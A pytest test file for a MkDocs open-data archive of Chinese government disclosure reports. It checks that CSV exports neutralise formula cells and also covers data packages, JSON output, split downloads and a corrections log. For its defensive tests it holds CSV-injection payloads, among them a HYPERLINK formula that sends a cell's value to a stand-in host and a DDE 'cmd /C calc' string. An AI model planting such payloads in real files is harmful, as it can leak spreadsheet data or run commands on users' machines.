"""The open data: CSV cells that cannot run as formulas, the Data Package, JSON Lines, per-report
JSON, split downloads, the 数据说明 page and its corrections log — on real MkDocs builds."""

from __future__ import annotations

import csv
import gzip
import io
import json
import shutil
import subprocess
from collections.abc import Callable
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from frictionless import Package

from build_scripts.pages.convert import run_convert
from build_scripts.schema import RECORD_KEYS, STAT_KEYS
from plugins.archive import downloads
from plugins.archive.export import FORMULA_STARTS, neutralise
from tests.bad_inputs.cases import real
from tests.conftest import BuiltSite, run_build

HOSTILE_TITLE = '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")'
#: Agencies a maintainer (or a hostile contributor) writes into ``sources/manifest.yaml``. The manifest strips
#: leading blanks, so a tab or CR start reaches the CSV only through a report's title (unit-tested above).
HOSTILE_AGENCIES = ["@SUM(1+1)*cmd|' /C calc'!A0", "+临北回族乡人民政府", "-2+3", '=HYPERLINK("http://example.invalid")']


def rows_of(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text("utf-8-sig"), newline="")))


def gunzip(path: Path) -> str:
    return gzip.decompress(path.read_bytes()).decode("utf-8")


def all_csvs(site: Path) -> list[Path]:
    return sorted(site.rglob("*.csv"))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_starting_a_formula_gets_a_quote(start: str) -> None:
    assert neutralise(start + "1+1") == "'" + start + "1+1"


def test_plain_text_is_left_alone() -> None:
    assert neutralise("临北回族乡 2018") == "临北回族乡 2018"
    assert neutralise("a=b") == "a=b"


def test_hostile_title_and_negative_figure_in_every_csv(
    tmp_path: Path, build_site: Callable[..., BuiltSite], report_page: Callable[..., str]
) -> None:
    page = report_page(
        agency="某某街道办事处", year=2019, title=HOSTILE_TITLE, stats={"applications_new": -2092, "outcome_total": 5}
    )
    site = build_site(tmp_path, {"reports/x/2019.md": page})
    assert not site.aborted
    csvs = all_csvs(site.site)
    assert len(csvs) >= 2, csvs  # all-in-one, per year (year and region pages link these, no copies)
    for path in csvs:
        (row,) = rows_of(path)
        assert row["title"] == "'" + HOSTILE_TITLE, path
        assert row["applications_new"] == "-2092", path  # a number: never prefixed
        assert row["outcome_total"] == "5"
    record = json.loads((site.site / "reports/x/2019/record.json").read_text("utf-8"))
    assert record["title"] == HOSTILE_TITLE
    assert record["stats"]["applications_new"] == -2092


@pytest.fixture(scope="module")
def hostile_manifest_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Real reports converted with hostile agencies written in ``sources/manifest.yaml``, then built."""
    root = tmp_path_factory.mktemp("manifest-hostile")
    sources = root / "sources"
    sources.mkdir()
    names = ["001_0ee38c6073f2f61e.txt", "2018-township-wuhe-linbei-hui.txt", "000_f81393340b8be10c.txt",
             "002_30cd8de8a868e119.txt"]
    manifest = []
    for name, agency in zip(names, HOSTILE_AGENCIES, strict=True):
        (sources / name).write_bytes(real(name))
        manifest.append(f"{name}:\n  agency: {json.dumps(agency, ensure_ascii=False)}\n")
    (sources / "manifest.yaml").write_text("".join(manifest), "utf-8")
    with redirect_stdout(io.StringIO()), redirect_stderr(io.StringIO()):
        status = run_convert(sources=sources, content=root / "content", report=str(root / "report.json"), quiet=True)
    assert status == 0
    content = root / "content"
    pages = {p.relative_to(content).as_posix(): p.read_text("utf-8") for p in content.rglob("*.md")}
    site = run_build(root / "built", pages)
    assert site.errors == []
    return site.site


def test_hostile_agencies_from_the_manifest_are_neutralised(hostile_manifest_site: Path) -> None:
    site = hostile_manifest_site
    records = [json.loads(line) for line in (site / "data/records.jsonl").read_text("utf-8").splitlines()]
    assert sorted(r["agency"] for r in records) == sorted(HOSTILE_AGENCIES)  # JSON keeps the raw value
    for path in all_csvs(site):
        for row in rows_of(path):
            for column, cell in row.items():
                if cell.startswith(FORMULA_STARTS):
                    assert column in STAT_KEYS and float(cell) < 0, (path, column, cell)
    agencies = {row["agency"] for row in rows_of(site / "data/records.csv")}
    assert agencies == {"'" + a for a in HOSTILE_AGENCIES}


def test_datapackage_validates_and_describes_every_csv_under_data(sample_site: BuiltSite) -> None:
    data = sample_site.site / "data"
    descriptor = json.loads((data / "datapackage.json").read_text("utf-8"))
    described = {r["path"] for r in descriptor["resources"]}
    assert described == {p.relative_to(data).as_posix() for p in data.rglob("*.csv")}
    assert descriptor["licenses"][0]["name"] == "CC-BY-4.0"
    schema = descriptor["resources"][0]["schema"]
    header = next(csv.reader(io.StringIO((data / "records.csv").read_text("utf-8-sig"))))
    assert [f["name"] for f in schema["fields"]] == header
    fields = {f["name"]: f for f in schema["fields"]}
    assert all(fields[k]["type"] == "number" and fields[k]["unit"] for k in STAT_KEYS)
    assert fields["flags"]["type"] == "string" and "contradicted" in fields["flags"]["description"]
    assert schema["missingValues"] == [""]
    report = Package(str(data / "datapackage.json")).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


def test_frictionless_rejects_a_figure_that_is_not_a_number(sample_site: BuiltSite, tmp_path: Path) -> None:
    data = tmp_path / "data"
    shutil.copytree(sample_site.site / "data", data)
    rows = rows_of(data / "records.csv")
    rows[0]["proactive_total"] = "很多"
    buffer = io.StringIO(newline="")
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    (data / "records.csv").write_text("\ufeff" + buffer.getvalue(), "utf-8", newline="")
    report = Package(str(data / "datapackage.json")).validate()
    assert not report.valid
    assert ["proactive_total", "type-error"] in report.flatten(["fieldName", "type"])


def test_json_lines_per_year_and_record_json_beside_every_report(sample_site: BuiltSite) -> None:
    site = sample_site.site
    everything = (site / "data/records.jsonl").read_text("utf-8").splitlines()
    by_year = [
        line for p in sorted((site / "data/years").glob("*.jsonl.gz")) for line in gunzip(p).splitlines()
    ]
    assert sorted(by_year) == sorted(everything)
    records = [json.loads(line) for line in everything]
    pages = sorted(p.parent for p in (site / "reports").rglob("index.html"))
    assert len(records) == len(pages) == len(json.loads((site / "data/records.json").read_text("utf-8")))
    for record in records:
        beside = json.loads((site / record["page"] / "record.json").read_text("utf-8"))
        assert beside == record
        assert set(RECORD_KEYS) <= set(record)


def test_report_page_links_its_json(sample_site: BuiltSite) -> None:
    for page in sorted((sample_site.site / "reports").rglob("index.html"))[:5]:
        soup = BeautifulSoup(page.read_text("utf-8"), "lxml")
        hrefs = [a["href"] for a in soup.select("a[href]")]
        assert "record.json" in hrefs, page


def test_downloads_split_at_the_size_limit(
    tmp_path: Path,
    build_site: Callable[..., BuiltSite],
    report_page: Callable[..., str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    pages = {
        f"reports/a{i}/2019.md": report_page(agency=f"机关{i}", year=2019, region=("浙江省", None, None), body="正文。" * 50)
        for i in range(12)
    }
    monkeypatch.setattr(downloads, "MAX_BYTES", 6000)
    site = build_site(tmp_path, pages)
    data = site.site / "data"
    assert not (data / "records.jsonl").exists() and not (data / "records.json").exists()
    parts = sorted((data / "years").glob("2019-part*.jsonl.gz"))
    assert len(parts) >= 2
    assert all(len(gunzip(p).encode()) <= 6000 for p in parts)
    assert sum(len(gunzip(p).splitlines()) for p in parts) == 12
    csv_parts = sorted((data / "provinces").glob("*-part*.csv")) or [data / "provinces/zhe-jiang-sheng.csv"]
    assert sum(len(rows_of(p)) for p in csv_parts) == 12
    assert "请按年度下载" in site.text("data/")


def test_split_keeps_every_line_and_the_limit() -> None:
    lines = [bytes([65 + i]) * (i + 1) for i in range(10)]
    runs = downloads.split(lines, 12, b"hh")
    assert [line for run in runs for line in run] == lines
    assert all(len(b"hh" + b"".join(run)) <= 12 or len(run) == 1 for run in runs)


def test_data_notes_page_explains_every_field_cites_and_licenses(sample_site: BuiltSite) -> None:
    text = sample_site.text("data/notes/")
    soup = BeautifulSoup(text, "lxml")
    codes = {c.get_text() for c in soup.select("table.archive-fields code")}
    assert set(STAT_KEYS) | set(RECORD_KEYS) <= {c.replace("\u200b", "") for c in codes}
    assert "CC BY 4.0" in text and "未填报" in text and "English summary" in text
    assert "政府信息公开年报档案维护者" in soup.select_one("blockquote.archive-citation").get_text()
    data_page = sample_site.text("data/")
    assert "notes/" in [a["href"].rstrip("/").rsplit("/", 1)[-1] + "/" for a in BeautifulSoup(data_page, "lxml").select("a")]


def _git(root: Path, *args: str) -> None:
    subprocess.run(["git", "-C", str(root), *args], check=True, capture_output=True)


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_corrections_log_from_the_manifest_history(
    tmp_path: Path, build_site: Callable[..., BuiltSite], report_page: Callable[..., str]
) -> None:
    root = tmp_path / "project"
    manifest = root / "sources/manifest.yaml"
    manifest.parent.mkdir(parents=True)
    _git(root, "init", "-q")
    _git(root, "config", "user.email", "t@example.invalid")
    _git(root, "config", "user.name", "t")
    manifest.write_text("report.txt:\n  agency: 某某镇\n", "utf-8")
    _git(root, "add", ".")
    _git(root, "commit", "-q", "-m", "清单：补上机关")
    manifest.write_text("report.txt:\n  agency: 某某镇人民政府\n  year: 2019\n", "utf-8")
    _git(root, "commit", "-q", "-am", "更正机关全称：原文落款为某某镇人民政府")
    site = build_site(root, {"reports/a/2019.md": report_page(agency="某某镇人民政府", year=2019)})
    items = BeautifulSoup(site.text("data/notes/"), "lxml").select("ol.archive-corrections > li")
    assert len(items) == 2
    newest = items[0].get_text()
    assert "更正机关全称：原文落款为某某镇人民政府" in newest
    assert "agency：某某镇 → 某某镇人民政府" in newest and "year：（无） → 2019" in newest


def test_corrections_without_git_list_the_current_manifest(
    tmp_path: Path, build_site: Callable[..., BuiltSite], report_page: Callable[..., str]
) -> None:
    manifest = tmp_path / "sources/manifest.yaml"
    manifest.parent.mkdir(parents=True)
    manifest.write_text("report.txt:\n  agency: 某某镇人民政府\n", "utf-8")
    site = build_site(tmp_path, {"reports/a/2019.md": report_page(agency="某某镇人民政府", year=2019)})
    text = site.text("data/notes/")
    assert "没有完整的 git 历史" in text and "agency = 某某镇人民政府" in text


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_a_shallow_clone_does_not_pretend_its_log_is_complete(
    tmp_path: Path, build_site: Callable[..., BuiltSite], report_page: Callable[..., str]
) -> None:
    origin = tmp_path / "origin"
    manifest = origin / "sources/manifest.yaml"
    manifest.parent.mkdir(parents=True)
    _git(origin, "init", "-q")
    _git(origin, "config", "user.email", "t@example.invalid")
    _git(origin, "config", "user.name", "t")
    for agency in ("某某镇", "某某镇人民政府"):
        manifest.write_text(f"report.txt:\n  agency: {agency}\n", "utf-8")
        _git(origin, "add", ".")
        _git(origin, "commit", "-q", "-m", f"清单：{agency}")
    _git(origin, "commit", "-q", "--allow-empty", "-m", "其他改动")
    clone = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", "--depth", "1", origin.as_uri(), str(clone)], check=True, capture_output=True)
    site = build_site(clone, {"reports/a/2019.md": report_page(agency="某某镇人民政府", year=2019)})
    assert "没有完整的 git 历史" in site.text("data/notes/")
